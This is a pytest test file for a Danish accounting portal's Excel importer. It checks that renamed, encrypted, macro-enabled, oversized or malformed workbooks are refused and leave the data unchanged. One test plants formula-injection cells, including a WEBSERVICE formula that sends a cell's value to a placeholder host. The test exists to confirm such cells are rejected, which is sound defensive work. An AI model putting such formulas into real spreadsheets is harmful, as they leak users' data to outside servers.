"""Bad files: each gets its own clear Danish refusal and changes nothing (entries counted before and after)."""
import io
import zipfile

import pytest

from workbook.importer import ImportRefused, check_file, import_workbook

from .helpers import counts, export_bytes, fill

pytestmark = pytest.mark.django_db

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def old_xls() -> bytes:
    """The first bytes of a real BIFF8 .xls: a CFB container with a Workbook stream (synthetic filler)."""
    return OLE + b"\x00" * 504 + "Workbook".encode("utf-16-le") + b"\x00" * 4000


def encrypted() -> bytes:
    """An encrypted OOXML file: a CFB container with EncryptionInfo and EncryptedPackage streams."""
    return (OLE + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 50
            + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 4000)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("noter.txt", "Syntetisk tekst, ikke en projektmappe")
    return out.getvalue()


def with_macros(data: bytes) -> bytes:
    """A real workbook with a VBA project added, as Excel saves a .xlsm (content type changed too)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "[Content_Types].xml":
                content = content.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
            target.writestr(item, content)
        target.writestr("xl/vbaProject.bin", b"\x00syntetisk vba")
    return out.getvalue()


def attempt(cluster_year, user, data: bytes, filename: str, size: int | None = None):
    before = counts()
    with pytest.raises(ImportRefused) as info:
        import_workbook(cluster_year=cluster_year, fileobj=io.BytesIO(data), filename=filename,
                        size=len(data) if size is None else size, user=user)
    assert counts() == before, "nothing may change"
    return " ".join(p.message for p in info.value.problems)


def test_renamed_xls_is_refused(ledger):
    message = attempt(ledger.cy, ledger.secretariat, old_xls(), "regnskab.xlsx")
    assert "ikke en rigtig .xlsx-fil" in message and ".xls" in message


def test_real_xls_name_is_refused(ledger):
    assert "Gem filen som «Excel-projektmappe (*.xlsx)»" in attempt(ledger.cy, ledger.secretariat, old_xls(), "r.xls")


def test_encrypted_file_is_refused(ledger):
    assert "krypteret" in attempt(ledger.cy, ledger.secretariat, encrypted(), "regnskab.xlsx")


def test_zip_that_is_not_a_workbook_is_refused(ledger):
    assert "zip-fil, men ikke en Excel-projektmappe" in attempt(ledger.cy, ledger.secretariat, plain_zip(), "r.xlsx")


def test_other_bytes_are_refused(ledger):
    message = attempt(ledger.cy, ledger.secretariat, b"Dato;Indsats;Syntetisk CSV\n", "regnskab.xlsx")
    assert "ikke en Excel-projektmappe (.xlsx)" in message


def test_macro_enabled_workbooks_are_refused(ledger):
    data = fill(export_bytes(ledger.cy, blank=True), [[None]])
    assert "makroer" in attempt(ledger.cy, ledger.secretariat, with_macros(data), "regnskab.xlsx")
    assert "makroaktiveret" in attempt(ledger.cy, ledger.secretariat, data, "regnskab.xlsm")


def test_other_extensions_are_refused(ledger):
    data = export_bytes(ledger.cy)
    assert "Kun Excel-filer i formatet .xlsx" in attempt(ledger.cy, ledger.secretariat, data, "regnskab.csv")


def test_a_30_mb_file_is_refused_before_it_is_read(ledger, settings):
    assert settings.XLSX_IMPORT_MAX_BYTES == 20 * 1024 * 1024

    class Unreadable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("the size must be checked before reading")

    before = counts()
    with pytest.raises(ImportRefused) as info:
        import_workbook(cluster_year=ledger.cy, fileobj=Unreadable(), filename="stor.xlsx",
                        size=30 * 1024 * 1024, user=ledger.secretariat)
    assert "fylder 30,0 MB; grænsen er 20,0 MB" in info.value.problems[0].message
    assert counts() == before


def test_the_size_limit_follows_the_setting(ledger, settings):
    settings.XLSX_IMPORT_MAX_BYTES = 1000
    data = export_bytes(ledger.cy)
    assert "grænsen er 0,0 MB" in attempt(ledger.cy, ledger.secretariat, data, "r.xlsx")


def test_text_in_amounts_is_refused(ledger):
    data = fill(export_bytes(ledger.cy, blank=True), [
        ["02-05-2022", "Syntetisk akutteam", None, "Billund", "4.62.82", "Udgift", "Udvikling", "tusind kroner",
         "Syntetisk", "T-1"],
    ])
    assert "«tusind kroner» er ikke et beløb" in attempt(ledger.cy, ledger.secretariat, data, "r.xlsx")


def test_an_injected_formula_is_refused_not_evaluated(ledger):
    data = fill(export_bytes(ledger.cy, blank=True), [
        ["02-05-2022", "Syntetisk akutteam", None, "Billund", "4.62.82", "Udgift", "Udvikling",
         '=WEBSERVICE("http://eksempel.invalid/?"&A1)', "Syntetisk", "T-1"],
        ["03-05-2022", '=HYPERLINK("http://eksempel.invalid","Syntetisk akutteam")', None, "Billund", "4.62.82",
         "Udgift", "Udvikling", 100, "Syntetisk", "T-2"],
    ])
    message = attempt(ledger.cy, ledger.secretariat, data, "r.xlsx")
    assert message.count("Cellen indeholder en formel") == 2


def test_check_file_accepts_the_portals_own_file(ledger):
    data = export_bytes(ledger.cy)
    check_file(io.BytesIO(data), "klyngeregnskab.XLSX", len(data))
